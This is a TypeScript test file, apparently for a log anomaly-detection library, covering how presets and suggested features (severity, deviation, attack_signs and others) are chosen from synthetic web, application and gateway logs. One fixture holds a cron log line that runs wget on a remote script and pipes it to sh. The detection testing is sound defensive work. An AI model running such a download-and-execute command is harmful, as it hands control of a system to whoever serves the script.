import type { LogDocument } from '../../log_document';
import { learnFeatures, PRESETS, presetFor, suggestFeatures } from '..';
import type { FeatureSuggestion } from './suggest_features';

const start = Date.UTC(2024, 0, 1);
const web: LogDocument[] = Array.from({ length: 500 }, (_, index) => ({
  '@timestamp': new Date(start + index * 3_600_000).toISOString(),
  http: {
    request: { method: index % 9 === 0 ? 'POST' : 'GET' },
    response: {
      status_code: index % 20 === 0 ? 404 : 200,
      body: { bytes: Math.round(Math.exp((index % 50) / 5)) },
    },
  },
  url: { original: `/articles/${index % 60}?page=${index % 7}` },
  user_agent: { original: `Browser/${index % 5}.0 (system)` },
  trace: { id: `trace-${index}` },
  label: index % 20 === 0 ? 'anomaly' : 'normal',
  event: { ingested: new Date(start).toISOString() },
  constant: 'same',
}));
const application: LogDocument[] = Array.from({ length: 300 }, (_, index) => ({
  '@timestamp': new Date(start + index * 1_000).toISOString(),
  'log.level': index % 10 === 0 ? 'ERROR' : 'INFO',
  service: { name: `service-${index % 4}` },
  message:
    index % 10 === 0
      ? `Payment ${index} failed after ${index % 30} ms`
      : `Order ${index} accepted for customer ${index * 7}`,
}));
const plain: LogDocument[] = Array.from({ length: 300 }, (_, index) => ({
  timestamp: start + index * 1_000,
  response_time: index % 90,
  status_code: 200 + (index % 2),
  request_size: index % 50,
  hour_of_day: index % 24,
}));

describe('presetFor', () => {
  it.each([
    ['web_access', web],
    ['application', application],
    ['web_simple', plain],
  ])('finds %s', (name, documents) => {
    const preset = presetFor(documents);
    expect(preset?.name).toBe(name);
    expect(
      learnFeatures(preset!.definitions, documents, { timestampField: '@timestamp' }).encoder.columnNames
        .length,
    ).toBeGreaterThan(3);
  });

  it('leaves out fields that are absent and takes other names for them', () => {
    const documents = web.map(({ url: _url, ...rest }) => ({ ...rest, url: { path: '/x' } }));
    const fields = presetFor(documents)!.definitions.map(({ field }) => field);
    expect(fields).toContain('url.path');
    expect(fields).not.toContain('url.original');
    expect(fields).not.toContain('event.duration');
  });

  it('compares within what the sample has', () => {
    const [severity] = presetFor(web)!.definitions;
    expect(severity).toMatchObject({
      type: 'severity',
      by: ['http.request.method', { route: 'url.original' }],
    });
    expect(presetFor(plain)!.definitions.map(({ type, field }) => [type, field])).toEqual([
      ['severity', 'status_code'],
      ['number', 'response_time'],
      ['number', 'request_size'],
      ['hour_of_day', 'hour_of_day'],
    ]);
  });

  it.each([
    [
      'authentication',
      { user: { name: 'anne' }, event: { action: 'logon', outcome: 'success' }, process: { name: 'sshd' } },
    ],
    ['kubernetes', { kubernetes: { namespace: 'shop', container: { name: 'web' } }, log: { level: 'info' } }],
    ['database_slow_log', { query_time: 2.5, rows_examined: 900, query: 'SELECT 1', database: 'shop' }],
  ])('finds %s', (name, log) => {
    const logs = Array.from({ length: 50 }, (_none, row) => ({ ...log, message: `message ${row}` }));
    expect(presetFor(logs)?.name).toBe(name);
  });

  it('finds none for strange logs', () => {
    expect(presetFor([{ temperature: 5 }])).toBeUndefined();
    expect(presetFor([])).toBeUndefined();
  });

  it('has a description for each', () => {
    for (const preset of PRESETS) {
      expect(preset.description.length).toBeGreaterThan(20);
      expect(preset.definitions.length).toBeGreaterThan(3);
    }
  });
});

describe('suggestFeatures', () => {
  const options = { timestampField: '@timestamp' };
  const typesOf = (documents: readonly LogDocument[]) =>
    Object.fromEntries(
      suggestFeatures(documents, options).map(({ definition }) => [
        definition.name ?? definition.field,
        definition.type,
      ]),
    );

  it('chooses types by the values and leaves out ids, constants and ground truth', () => {
    expect(typesOf(web)).toEqual({
      'url.original': 'text',
      'http.request.method': 'combination',
      'http.response.status_code': 'severity',
      'http.response.body.bytes': 'deviation',
      'user_agent.original': 'attack_signs',
      hour_of_day: 'hour_of_day',
      day_of_week: 'day_of_week',
    });
    expect(typesOf(application)).toEqual({
      'log.level': 'severity',
      message: 'attack_signs',
      'service.name': 'combination',
    });
    expect(typesOf(plain)).toMatchObject({
      hour_of_day: 'hour_of_day',
      response_time: 'number',
      status_code: 'severity',
    });
  });

  it('compares days of the week where each was there twice', () => {
    const logsOver = (days: number) =>
      Array.from({ length: 400 }, (_none, i) => ({
        '@timestamp': new Date(Date.parse('2026-03-02') + (i / 399) * days * 86_400_000).toISOString(),
        level: i % 3 === 0 ? 'warn' : 'info',
      }));
    expect(typesOf(logsOver(13))).not.toHaveProperty('day_of_week');
    expect(typesOf(logsOver(15))).toHaveProperty('day_of_week');
  });

  it('takes user agents by the programs that they name, whatever stands before the name', () => {
    const agents = Array.from({ length: 600 }, (_none, index) => ({
      kind: `event-${index % 3}`,
      origin: { agent: `Browser/${index % 40}.0 (device ${index % 90}) Engine/${index % 20}.1` },
      agent: `worker-${index % 40}`,
    }));
    const found = suggestFeatures(agents, options).map(({ definition }) => definition);
    expect(found.find(({ field }) => field === 'origin.agent')).toMatchObject({
      type: 'category',
      encoding: 'rarity',
      masked: 'agent',
    });
    expect(found.filter(({ masked }) => masked === 'agent')).toHaveLength(1);
  });

  it('takes user agents beside the usual number of fields, and no more than it is asked for', () => {
    const many = Array.from({ length: 600 }, (_none, index) => ({
      ...Object.fromEntries(
        [2, 3, 5, 7, 11].flatMap((n) => [0, 1, 2].map((i) => [`kind_${n}_${i}`, `k${(index >> i) % n}`])),
      ),
      agent: `Browser/${index % 40}.0`,
    }));
    const isOfAgents = ({ definition }: FeatureSuggestion): boolean => definition.masked === 'agent';
    const found = suggestFeatures(many, options);
    expect(found).toHaveLength(13);
    expect(found.filter(isOfAgents)).toHaveLength(1);
    // Agents that few logs have weigh less than anything else, and have the place all the same.
    const seldom = many.map(({ agent, ...log }, index) => (index % 10 > 0 ? log : { ...log, agent }));
    expect(suggestFeatures(seldom, options).filter(isOfAgents)).toHaveLength(1);
    expect(suggestFeatures(many, { ...options, limit: 5 })).toHaveLength(5);
    expect(
      suggestFeatures(
        many.map(({ agent: _agent, ...log }) => log),
        options,
      ),
    ).toHaveLength(12);
  });

  it('compares what a number measures with the same service, method and route', () => {
    const definitions = suggestFeatures(web, options).map(({ definition }) => definition);
    const of = (type: string) => definitions.find((definition) => definition.type === type);
    expect(of('severity')?.by).toEqual(['http.request.method', { route: 'url.original' }]);
    expect(of('deviation')).toMatchObject({
      by: ['http.response.status_code', 'http.request.method', { route: 'url.original' }],
      direction: 'both',
    });
    // Its method stands beside it, in a pair; in both, one strange request would be two.
    expect(of('route')).toMatchObject({ field: 'url.original' });
    expect(of('route')).not.toHaveProperty('method');
    expect(of('combination')?.fields).toEqual(['http.request.method', { route: 'url.original' }]);
  });

  it('compares a level within the status that it follows from, and one that knows nothing of it within the others', () => {
    const levelsOf = (levelOf: (status: number, row: number) => string): unknown =>
      suggestFeatures(
        web.map((log, row) => {
          const status = row % 20 === 0 ? 404 : row % 30 === 7 ? 403 : 200;
          return {
            ...log,
            http: { response: { status_code: status } },
            log: { level: levelOf(status, row) },
          };
        }),
        options,
      ).flatMap(({ definition: { type, field, by } }) => (type === 'severity' ? [[field, by]] : []));
    const route = [{ route: 'url.original' }];
    const status = ['http.response.status_code', route];
    expect(levelsOf((code) => (code >= 400 ? 'warn' : 'info'))).toEqual([
      status,
      ['log.level', ['http.response.status_code', ...route]],
    ]);
    expect(levelsOf((_code, row) => (row % 7 === 0 ? 'warn' : 'info'))).toEqual([
      status,
      ['log.level', route],
    ]);
  });

  it('looks at requests as the preset does: the path without its parameters, its looks, and what clients send', () => {
    const agents = ['Mozilla', 'curl', 'Wget', 'python-requests'];
    const requests = Array.from({ length: 500 }, (_none, index) => ({
      ...web[index],
      url: { original: `/articles/${index % 60}?utm_${(index * 7) % 97}=${index % 7}` },
      user_agent: { original: `${agents[index % 4]}/${index % 15}.0 (system)` },
      http: {
        ...(web[index].http as object),
        request: {
          method: index % 9 === 0 ? 'POST' : 'GET',
          referrer: `https://${'abc'[index % 3]}.example/`,
        },
      },
    }));
    const found = suggestFeatures(requests, options).map(({ definition }) => definition);
    const have = (type: string, field: string) =>
      expect(found.filter((one) => one.type === type && one.field === field));
    have('route', 'url.original').toHaveLength(1);
    have('attack_signs', 'url.original').toMatchObject([{ weight: 3 }]);
    have('text', 'url.original').toMatchObject([{ weight: 1 }]);
    have('combination', 'http.request.method').toMatchObject([
      { fields: ['http.request.method', { route: 'url.original' }], weight: 0.5 },
    ]);
    have('category', 'user_agent.original').toMatchObject([{ masked: 'agent' }]);
    have('attack_signs', 'user_agent.original').toHaveLength(1);
    have('attack_signs', 'http.request.referrer').toHaveLength(1);
    // Pages that link here are new all the time.
    have('category', 'http.request.referrer').toHaveLength(0);
    // They take no other field's place, but where the caller wants no more.
    expect(suggestFeatures(requests, { ...options, limit: 4 })).toHaveLength(4);
    have('hour_of_day', '@timestamp').toHaveLength(1);
  });

  it('looks at all that a request asks for: at the URL with its parameters, else at the parameters beside the path', () => {
    const requests = Array.from({ length: 400 }, (_none, index) => {
      const path = `/articles/${index % 50}`;
      const query = index % 8 === 0 ? `page=${index}&sort=${'ab'[index % 2]}` : undefined;
      const original = query === undefined ? path : `${path}?${query}`;
      return { url: { path, original, ...(query && { query }) }, http: { request: { method: 'GET' } } };
    });
    const signsOf = (logs: LogDocument[]) =>
      suggestFeatures(logs, options).flatMap(({ definition: { type, field, weight } }) =>
        type === 'attack_signs' ? [[field, weight]] : [],
      );
    expect(signsOf(requests)).toEqual([['url.original', 3]]);
    const apart = requests.map(({ url: { original: _original, ...url }, http }) => ({ url, http }));
    expect(signsOf(apart)).toEqual([
      ['url.path', 3],
      ['url.query', 3],
    ]);
  });

  it('keeps numbers that few logs have beyond the limit', () => {
    const logs = Array.from({ length: 400 }, (_none, index) => ({
      ...Object.fromEntries(
        Array.from({ length: 20 }, (_no, field) => [
          `name${field}`,
          `${(index * (7_919 + 977 * field)) % (5 + field)}x`,
        ]),
      ),
      ...(index % 5 === 0 && { sent: { bytes: 100 + ((index * 7_919) % 5_000) } }),
    }));
    const fields = suggestFeatures(logs, options).map(({ definition }) => definition.field);
    expect(fields).toContain('sent.bytes');
  });

  it('reads codes of gRPC, and leaves out their names and where logs come from', () => {
    const calls = Array.from({ length: 400 }, (_none, row) => ({
      '@timestamp': new Date(start + row * 1_000).toISOString(),
      svc: `service-${row % 5}`,
      code: row % 40 === 0 ? 13 : 0,
      code_name: row % 40 === 0 ? 'INTERNAL' : 'OK',
      latency_us: 90 + ((row * 7_919) % 1_000),
      pid: 300 + row,
      message: `call ${row} finished`,
    }));
    expect(
      suggestFeatures(calls, options).map(({ definition: { type, field, by } }) => [type, field, by]),
    ).toEqual([
      ['severity', 'code', ['svc', { masked: 'message' }]],
      ['template', 'message', undefined],
      ['deviation', 'latency_us', ['svc', { masked: 'message' }]],
      ['combination', 'svc', undefined],
      ['attack_signs', 'message', undefined],
    ]);
  });

  it('reads the numbers in messages where they count or measure something', () => {
    const found = (messageOf: (row: number) => string) =>
      suggestFeatures(
        Array.from({ length: 400 }, (_none, row) => ({
          '@timestamp': new Date(start + row * 1_000).toISOString(),
          message: messageOf(row),
          path: `/cart/${row % 50}`,
        })),
        options,
      ).flatMap(({ definition: { type, field } }) => (type === 'message_numbers' ? [field] : []));
    const steps = ['opened', 'read', 'closed'];
    const took = (row: number): string => `file ${steps[row % 3]} by worker in ${10 + ((row * 31) % 97)} ms`;
    expect(found(took)).toEqual(['message']);
    expect(found((row) => `file ${steps[row % 3]} by worker of 10.0.0.${row % 9} pid ${row}`)).toEqual([]);
    expect(found((row) => `file ${steps[row % 3]} by worker of 3`)).toEqual([]);
    // Lines that repeat the request hold what is in its fields.
    const line = (row: number): string => `GET /cart/${row % 50} answered in ${10 + ((row * 31) % 97)} ms`;
    expect(found(line)).toEqual([]);
  });

  it('makes no pair of fields that go together only because both follow from a third', () => {
    let state = 7;
    const draw = (n: number): number => {
      state = (state * 48_271) % 2_147_483_647;
      return state % n;
    };
    const logsOf = (loggerOf: (service: number, pod: number) => number): LogDocument[] =>
      Array.from({ length: 1_000 }, (_none, row) => {
        const [service, pod] = [draw(6), draw(3)];
        return {
          '@timestamp': new Date(start + row * 1_000).toISOString(),
          service: { name: `service-${service}` },
          kubernetes: { pod: { name: `service-${service}-${'xyz'[pod]}` } },
          log: { logger: `logger.${service}.${loggerOf(service, pod)}` },
        };
      });
    const pairsOf = (logs: readonly LogDocument[]) =>
      suggestFeatures(logs, options).flatMap(({ definition: { fields } }) =>
        fields?.includes('kubernetes.pod.name') === true ? [fields] : [],
      );
    expect(pairsOf(logsOf(() => draw(4)))).toEqual([]);
    expect(pairsOf(logsOf((_service, pod) => (draw(20) === 0 ? 3 : pod)))).toEqual([
      ['kubernetes.pod.name', 'log.logger'],
    ]);
  });

  it('compares what a line measures with the same line, and lines with what writes them', () => {
    const lines = ['cache filled', 'order accepted', 'job done'];
    const command = '(root) CMD (cd / && wget http://10.0.0.1/a.sh | sh)';
    const logs = Array.from({ length: 400 }, (_none, row) => ({
      '@timestamp': new Date(start + row * 1_000).toISOString(),
      log: { level: row % 40 === 0 ? 'WARN' : 'INFO', logger: `logger.${'abcdef'[row % 6]}` },
      service: { name: `service-${row % 2}` },
      // Another name of the service, which is no group of its own.
      kubernetes: { container: { name: `container-${row % 2}` } },
      event: { duration: 90_000 + ((row * 7_919) % 10_000) },
      message: `${lines[row % 3]} for ${row}`,
    }));
    const found = (documents: readonly LogDocument[]) =>
      suggestFeatures(documents, options).map(({ definition }) => definition);
    const by = ['service.name', 'log.logger', { masked: 'message' }];
    expect(found(logs)).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ type: 'severity', field: 'log.level', by }),
        expect.objectContaining({ type: 'deviation', field: 'event.duration', by }),
        expect.objectContaining({ type: 'combination', fields: ['log.logger', { masked: 'message' }] }),
        expect.objectContaining({ type: 'attack_signs', field: 'message' }),
      ]),
    );
    // Where commands are what the logs are about, they are no signs of attacks.
    const commands = logs.map((log, row) => (row % 20 === 0 ? { ...log, message: command } : log));
    expect(found(commands).filter(({ type }) => type === 'attack_signs')).toEqual([]);
  });

  it('leaves out fields that repeat another in other words or units', () => {
    const repeated = web.map((document, index) => {
      const url = (document.url as { original: string }).original;
      return {
        ...document,
        url: { original: url, path: url.split('?')[0] },
        seconds: index % 91,
        milliseconds: (index % 91) * 1e3,
        status: index % 20 === 0 ? '404' : '200',
      };
    });
    const types = typesOf(repeated);
    expect(Object.keys(types)).toEqual(
      expect.arrayContaining(['url.original', 'http.response.status_code', 'seconds']),
    );
    for (const field of ['url.path', 'status', 'milliseconds']) expect(types).not.toHaveProperty([field]);
  });

  it('gives reason, coverage and frequent values', () => {
    const half = web.map((document, index) => (index % 2 === 0 ? document : { ...document, http: {} }));
    const status = suggestFeatures(half, options).find(
      ({ definition }) => definition.field === 'http.response.status_code',
    );
    expect(status?.coverage).toBe(0.5);
    expect(status?.examples[0]).toBe('200');
    expect(status?.reason).toContain('in 50% of the logs');
  });

  it('is usable as it stands, bounded, and survives odd documents', () => {
    const suggestions = suggestFeatures(web, { ...options, limit: 3 });
    expect(suggestions).toHaveLength(3);
    expect(() =>
      learnFeatures(
        suggestions.map(({ definition }) => definition),
        web,
        options,
      ),
    ).not.toThrow();
    expect(suggestFeatures([], options)).toEqual([]);
    expect(() =>
      suggestFeatures([null as never, { a: [[]], b: { c: NaN } }, { '*': 1, _x: 2 }], options),
    ).not.toThrow();
  });
});

it('compares numbers that no preset names with those of the same statement, but no ids, codes and times', () => {
  const logs = Array.from({ length: 200 }, (_none, i) => ({
    '@timestamp': new Date(Date.UTC(2026, 2, 2) + i * 60_000).toISOString(),
    level: 'INFO',
    app: i % 2 === 0 ? 'scheduler' : 'postgres',
    logger: 'jobs',
    message: `job ${i % 3 === 0 ? 'import' : 'digest'} finished in ${i} ms`,
    took_ms: 40 + i,
    rows: (i * 37) % 101,
    pid: 300 + i,
    thread: i % 50,
    line: i % 90,
    shard: i % 3,
  }));
  const preset = presetFor(logs)!;
  expect(preset.name).toBe('application');
  const compared = preset.definitions.filter(({ type }) => type === 'deviation');
  expect(compared.map(({ field, by }) => ({ field, by }))).toEqual(
    ['took_ms', 'rows'].map((field) => ({ field, by: ['app', 'logger', { masked: 'message' }] })),
  );
});

it('looks at callers beside what they call, and at signs of attack as presets do', () => {
  const logs = Array.from({ length: 400 }, (_none, i) => ({
    '@timestamp': new Date(Date.UTC(2026, 2, 2) + i * 60_000).toISOString(),
    svc: `service-${i % 4}`,
    rpc: `Service${i % 4}/Call${i % 20}`,
    caller: `caller-${'abcdefghijklmnopqrst'[i % 20]}`,
    resource: `/tenants/${i}/items?filter=${i}`,
    latency_us: 900 + ((i * 37) % 401),
  }));
  const definitions = suggestFeatures(logs, { timestampField: '@timestamp' }).map(
    ({ definition }) => definition,
  );
  expect(definitions.find(({ type }) => type === 'combination')?.fields).toEqual(['caller', 'rpc']);
  expect(definitions.find(({ type }) => type === 'attack_signs')?.weight).toBe(
    PRESETS[0].definitions.find(({ type }) => type === 'attack_signs')?.weight,
  );
});

it('compares numbers within no field whose name a feature may not have', () => {
  const logs = Array.from({ length: 300 }, (_none, i) => ({
    '@timestamp': new Date(Date.UTC(2026, 2, 2) + i * 60_000).toISOString(),
    'control\u001b[2J': `value${i % 3}`,
    took: 10 ** (i % 3) + (i % 7),
  }));
  const definitions = suggestFeatures(logs, { timestampField: '@timestamp' }).map(
    ({ definition }) => definition,
  );
  expect(definitions.map(({ field, by }) => [field, by])).toContainEqual(['took', undefined]);
});

it('takes no preset for requests whose status has a name of its own', () => {
  const logs = Array.from({ length: 200 }, (_none, i) => ({
    '@timestamp': new Date(Date.UTC(2026, 2, 2) + i * 60_000).toISOString(),
    method: i % 3 === 0 ? 'POST' : 'GET',
    path: `/v1/items/${i}`,
    answered_with: i % 20 === 0 ? 404 : 200,
    user_agent: 'curl/8.1',
  }));
  expect(presetFor(logs)).toBeUndefined();
  const named = logs.map(({ answered_with: status_code, ...log }) => ({ ...log, status_code }));
  expect(presetFor(named)?.name).toBe('web_simple');
});

it('compares a gateway’s numbers within routes rather than within machines, and looks at who calls and at flags', () => {
  const routes = ['charge', 'search', 'export', 'login', 'cart'];
  const logs = Array.from({ length: 600 }, (_none, i) => {
    const route = i % 5;
    return {
      '@timestamp': new Date(Date.UTC(2026, 2, 2) + i * 60_000).toISOString(),
      consumer: `app-${'abcdefgh'[(i * 7) % 8]}`,
      route_name: routes[route],
      route_label_of_old: `r-${routes[route]}`,
      upstream_host: `10.4.${route}.${i % 3}:8080`,
      response_flags: i % 200 === 7 ? 'UF' : '-',
      duration: 10 ** route + ((i * 37) % 11),
      uid: `C${(i * 7919).toString(36)}x${(i * 104_729).toString(36)}longid`,
    };
  });
  const definitions = suggestFeatures(logs, { timestampField: '@timestamp' }).map(
    ({ definition }) => definition,
  );
  expect(definitions.find(({ field }) => field === 'duration')).toMatchObject({
    type: 'deviation',
    by: ['route_name'],
  });
  expect(definitions.find(({ field }) => field === 'consumer')).toMatchObject({ encoding: 'rarity' });
  expect(definitions.find(({ type }) => type === 'combination')?.fields).toContain('consumer');
  expect(definitions.find(({ field }) => field === 'response_flags')).toMatchObject({
    type: 'category',
    encoding: 'rarity',
  });
  expect(definitions.some(({ field }) => field === 'uid')).toBe(false);
});

test('ids of one length and zones of a cloud are no features, numbers of protocols are codes, and texts of one template are names', () => {
  const logs = Array.from({ length: 400 }, (_, i) => ({
    '@timestamp': i,
    auditID: `${(i * 7_919 + 1e9).toString(16)}-abcd-${(i * 104_729 + 1e9).toString(16)}`,
    network: { iana_number: [6, 17, 1][i % 3] },
    cloud: { availability_zone: `eu-central-1${'abc'[i % 3]}` },
    why: `allowed by binding ${'abcdefghijklmnopqrst'[i % 20].repeat(3)} of cluster`,
  }));
  const found = suggestFeatures(logs, { timestampField: '@timestamp' }).map(({ definition }) => definition);
  expect(found.filter(({ field }) => /auditID|zone/.test(field))).toEqual([]);
  expect(found).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ field: 'network.iana_number', type: 'category' }),
      expect.objectContaining({ field: 'why', type: 'category' }),
    ]),
  );
});
